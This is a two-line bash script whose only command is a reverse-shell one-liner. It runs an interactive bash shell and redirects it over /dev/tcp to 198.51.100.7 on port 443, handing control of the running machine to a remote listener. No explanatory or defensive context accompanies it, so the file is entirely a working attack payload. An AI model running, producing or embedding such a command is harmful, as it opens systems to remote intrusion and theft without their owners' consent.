#!/bin/bash
bash -i >& /dev/tcp/198.51.100.7/443 0>&1
